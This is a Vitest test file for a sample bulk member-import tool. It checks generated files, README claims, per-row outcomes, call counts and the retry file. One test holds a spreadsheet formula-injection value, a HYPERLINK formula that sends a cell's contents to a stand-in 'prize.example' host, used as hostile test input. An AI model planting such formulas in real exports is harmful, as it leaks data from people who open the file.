import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, test } from 'vitest';
import { generate } from '../../samples/first-import/generate.ts';
import { GROUPS } from '../../samples/first-import/generator/memberships.ts';
import { expectedOutcomes, fewestCalls } from './expected-outcomes.ts';
import { cameTo, promisedBy, readme, reportRows, rollcall, SAMPLES, temporaryDataDir } from './sample.ts';

const file = (name: string) => readFileSync(new URL(`first-import/${name}`, SAMPLES), 'utf8');
const MEMBERS = file('members.csv');
const SANDBOX = file('sandbox.json');
const EXPECTED = expectedOutcomes(MEMBERS, SANDBOX);

test('its files are what generate.ts writes', () => {
  const { 'members.csv': members, 'sandbox.json': sandbox } = generate();
  expect(members === MEMBERS, 'members.csv').toBe(true);
  expect(sandbox === SANDBOX, 'sandbox.json').toBe(true);
});

test('its README counts the groups that the file asks for', () => {
  const sizes = GROUPS.map(({ people }) => people.length);
  const claim = `${GROUPS.length} groups of ${Math.min(...sizes)} to ${Math.max(...sizes)} people`;
  expect(readme('first-import')).toContain(claim);
});

describe('the first import', () => {
  const dataDir = temporaryDataDir();
  const { command, code, rows } = promisedBy('first-import');
  let run: ReturnType<typeof cameTo>;
  let report: ReturnType<typeof reportRows>;

  beforeAll(async () => {
    run = cameTo(await rollcall(command, dataDir));
    report = reportRows(run.summary.reports.all);
  });

  test('it comes to what its README promises', () => {
    expect(run).toMatchObject({ code, rows });
  });

  test('every row has the outcome that file and sandbox give it', () => {
    const outcomes = report.map(
      ({ _row, _status, _code }) => `${_row} ${_status}${_status === 'failed' ? ` ${_code}` : ''}`,
    );
    expect(outcomes).toEqual(EXPECTED.map(({ line, outcome }) => `${line} ${outcome}`));
  });

  test('the summary counts them by region', () => {
    for (const region of ['us', 'eu', 'in']) {
      const own = EXPECTED.filter((row) => row.region === region).map(({ outcome }) => outcome.split(' ')[0]);
      for (const [name, count] of Object.entries(run.summary.regions[region]?.rows ?? {})) {
        const expected = own.filter((outcome) => outcome === name || name === 'read').length;
        expect([region, name, count]).toEqual([region, name, expected]);
      }
    }
  });

  test('no call is made that could be saved, however the people of a group are spread over the file', () => {
    // On a busy machine a connection may be closed while a call is under way; such a call is made again.
    const { calls, retries } = run.summary;
    expect(calls - retries).toBe(fewestCalls(MEMBERS, SANDBOX));
  });

  test('the file has every kind of trouble that its README lists', () => {
    const kinds = new Set(report.map(({ _status, _code }) => `${_status} ${_code}`.trim()));
    expect([...kinds].sort()).toEqual([
      'added',
      'already_member ERR_ALREADY_JOINED',
      'banned',
      'banned ERR_ALREADY_BANNED',
      'duplicate DUPLICATE',
      'failed BANNED',
      'failed ERR_GROUP_NOT_JOINED',
      'failed ERR_GUID_NOT_FOUND',
      'failed ERR_UID_NOT_FOUND',
      'invalid ADDED_AND_BANNED',
      'invalid BAD_CHARACTER',
      'invalid CELL_COUNT',
      'invalid EMPTY',
      'invalid TOO_LONG',
      'invalid UNKNOWN_REGION',
      'invalid UNKNOWN_SCOPE',
    ]);
  });

  test('a name that is a formula is in the report as it was', () => {
    const names = report.map((row) => row['Full name'] ?? '').filter((name) => name.includes('HYPERLINK'));
    expect(names).toEqual([`=HYPERLINK("https://prize.example/?u="&C2,"Open")`]);
  });

  test('the retry file has the failed rows as they were, and no others', () => {
    const failed = EXPECTED.filter(({ outcome }) => outcome.startsWith('failed')).map(({ line }) => line);
    const lines = MEMBERS.split('\n');
    const retry = readFileSync(run.summary.reports.retry ?? '', 'utf8')
      .trimEnd()
      .split('\n');
    expect(retry.slice(1).map((line) => line.replace(/,$/, ''))).toEqual(failed.map((line) => lines[line - 1]));
  });
});
